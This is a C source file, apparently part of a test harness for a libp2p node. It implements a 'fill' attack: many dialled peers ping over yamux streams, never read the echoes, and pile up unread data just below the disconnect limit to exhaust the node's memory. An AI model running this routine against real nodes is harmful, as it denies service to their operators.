/* SPDX-License-Identifier: GPL-3.0-or-later */

#include "attack.h"

#include "attack-dial.h"
#include "attack-session.h"
#include "p2p-ping.h"
#include "report.h"

#include <string.h>

#define FIRST_SOURCE 140
#define N_STREAMS    2                         /* pings that are answered at once */
#define WINDOW       (256 * 1024)
#define UNREAD       (230 * 1024)              /* together less than what closes a connection */
#define MOST         (WINDOW + UNREAD)
#define MAX_FRAME    16384
#define SETTLE_SEC   2

static const char ping_stream[] = "\x13/multistream/1.0.0\n\x11" P2P_PING_ID "\n";

/**
 * Fill:
 * @credit: what the other end is still ready to receive, for each stream
 * @sent: bytes so far
 *
 * attack fill HOST PORT COUNT: so many peers that ping, never take what is echoed, and go on pinging until as much as may
 * lies unread.
 */
typedef struct
{
  AttackSession *session;
  gint64         credit[N_STREAMS];
  gint64         sent[N_STREAMS];
} Fill;

typedef struct
{
  Attack *attack;
  guint   n_open;
  guint   n_closed;
  guint   n_refused;
  gint64  sent;
} Total;

static Total total;

static void
pump (Fill *self)
{
  static const guint8 zeros[MAX_FRAME];

  for (guint i = 0; i < N_STREAMS; i++)
    while (self->credit[i] > 0 && self->sent[i] < MOST)
      {
        gint64 len = MIN (MIN (self->credit[i], MOST - self->sent[i]), MAX_FRAME);
        P2pYamuxFrame frame = { P2P_YAMUX_DATA, 0, 2 * i + 1, (guint32) len };

        attack_session_frame (self->session, &frame, zeros, (gsize) len);
        self->credit[i] -= len;
        self->sent[i] += len;
        total.sent += len;
      }

  attack_session_flush (self->session);
}

static void
frame_cb (AttackSession       *session,
          const P2pYamuxFrame *frame,
          gpointer             user_data)
{
  Fill *self = user_data;
  guint number = frame->stream / 2;

  if (frame->type == P2P_YAMUX_WINDOW_UPDATE && frame->stream % 2 == 1 && number < N_STREAMS)
    {
      self->credit[number] += frame->length;
      pump (self);
    }
}

static void
closed_cb (AttackSession *session,
           gpointer       user_data)
{
  total.n_open--;
  total.n_closed++;
}

static void
dialled_cb (GObject      *source,
            GAsyncResult *result,
            gpointer      user_data)
{
  g_autoptr(GIOStream) stream = attack_dial_finish (result, NULL, NULL);
  Fill *self;

  if (stream == NULL)
    {
      total.n_refused++;
      return;
    }

  total.n_open++;
  self = g_new0 (Fill, 1);
  self->session = attack_session_new (stream, frame_cb, closed_cb, self);

  for (guint i = 0; i < N_STREAMS; i++)
    {
      P2pYamuxFrame frame = { P2P_YAMUX_DATA, P2P_YAMUX_SYN, 2 * i + 1, sizeof ping_stream - 1 };

      attack_session_frame (self->session, &frame, ping_stream, sizeof ping_stream - 1);
      self->credit[i] = WINDOW - frame.length;
    }

  pump (self);
}

static gboolean
settled_cb (gpointer user_data)
{
  JsonObject *fields = json_object_new ();

  json_object_set_int_member (fields, "open", total.n_open);
  json_object_set_int_member (fields, "closed", total.n_closed);
  json_object_set_int_member (fields, "refused", total.n_refused);
  json_object_set_int_member (fields, "sent", total.sent);
  report ("filled", fields);

  return G_SOURCE_REMOVE;
}

static gboolean
leave_cb (gpointer user_data)
{
  g_main_loop_quit (total.attack->loop);

  return G_SOURCE_REMOVE;
}

void
attack_fill (Attack *attack)
{
  guint count = (guint) g_ascii_strtoull (attack->words[0], NULL, 10);

  total.attack = attack;

  for (guint i = 0; i < count; i++)
    {
      g_autoptr(P2pIdentity) identity = p2p_identity_new ();
      AttackFrom from = { attack->target, FIRST_SOURCE + i, identity };

      attack_dial_async (&from, ATTACK_MULTIPLEXED, NULL, dialled_cb, NULL);
    }

  /* The test looks at the memory in between. */
  g_timeout_add_seconds (SETTLE_SEC, settled_cb, NULL);
  g_timeout_add_seconds (2 * SETTLE_SEC, leave_cb, NULL);
}
